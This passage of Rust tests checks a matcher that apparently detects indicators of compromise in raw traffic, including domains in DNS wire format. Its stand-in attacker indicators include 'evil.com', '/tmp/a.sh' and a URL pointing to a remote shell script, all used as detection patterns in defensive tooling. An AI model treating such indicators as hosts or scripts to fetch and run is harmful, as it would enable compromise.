        let all: Vec<String> = (0..300).map(|number| format!("Mozilla/5.0 xmozilla agent{number}")).collect();
        let all: Vec<(Kind, &str)> = all.iter().map(|text| (Kind::Text, text.as_str())).collect();
        let words = words(&all);
        assert_eq!(words.left_out, 0);
        for number in [0, 299] {
            let text = format!("User-Agent: Mozilla/5.0 xmozilla agent{number}");
            assert!(!found(&words, text.as_bytes()).is_empty(), "{number}");
        }
    }

    #[test]
    fn domains_with_short_labels_are_found_in_questions_to_dns() {
        let words = words(&[(Kind::Domain, "t.co"), (Kind::Domain, "ab.evil.com")]);
        assert_eq!(found(&words, b"\0\0\x01t\x02co\0\0\x01"), ["t.co@2 Wire"]);
        assert_eq!(found(&words, b"\x03www\x02ab\x04evil\x03com\0"), ["ab.evil.com@4 Wire"]);
        assert!(found(&words, b"\x01t\x03com\0").is_empty());
    }

    proptest! {
        /// Whatever the slices, all is found once, as if the text were one slice. Only where words run into each other just
        /// where a slice begins, it may be read in another way: less is known there of what stands before it.
        #[test]
        fn slices_do_not_matter(
            parts in proptest::collection::vec("(evil\\.com|www\\.|/tmp/a\\.sh|203\\.0\\.113\\.7|2001:db8::7|[ .a/:-]{1,3}|http://)", 0..30),
            cut in 0..300_usize,
            apart: bool,
        ) {
            let words = words(&[
                (Kind::Domain, "evil.com"), (Kind::Path, "/tmp/a.sh"), (Kind::Address, "203.0.113.7"),
                (Kind::Address, "2001:db8::7"),
                (Kind::Url, "http://evil.com/tmp/a.sh"),
            ]);
            let text = parts.join(if apart { " " } else { "" }).into_bytes();
            let cut = cut.min(text.len());
            let of = |bytes: &[u8], base: usize, span: Range<usize>| {
                let mut all = Vec::new();
                words.find(bytes, span, &mut |_, range| all.push((base + range.start, base + range.end)));
                all
            };
            let mut whole = of(&text, 0, 0..text.len());
            let from = cut.saturating_sub(16);
            let mut both = of(&text, 0, 0..cut);
            both.extend(of(&text[from..], from, cut - from..text.len() - from));
            if !apart {
                both.retain(|(start, _)| !(cut..cut + 64).contains(start));
                whole.retain(|(start, _)| !(cut..cut + 64).contains(start));
            }
            prop_assert_eq!(both, whole);
        }

        #[test]
        fn any_bytes_are_taken(bytes in proptest::collection::vec(any::<u8>(), 0..300), at in 0..300_usize) {
            let words = words(&[(Kind::Domain, "evil.com"), (Kind::Text, "a long text"), (Kind::Network, "0.0.0.0/1")]);
            let at = at.min(bytes.len());
            words.find(&bytes, at..bytes.len(), &mut |_, _| ());
            let _ = words.resolve(&bytes);
        }
    }
}
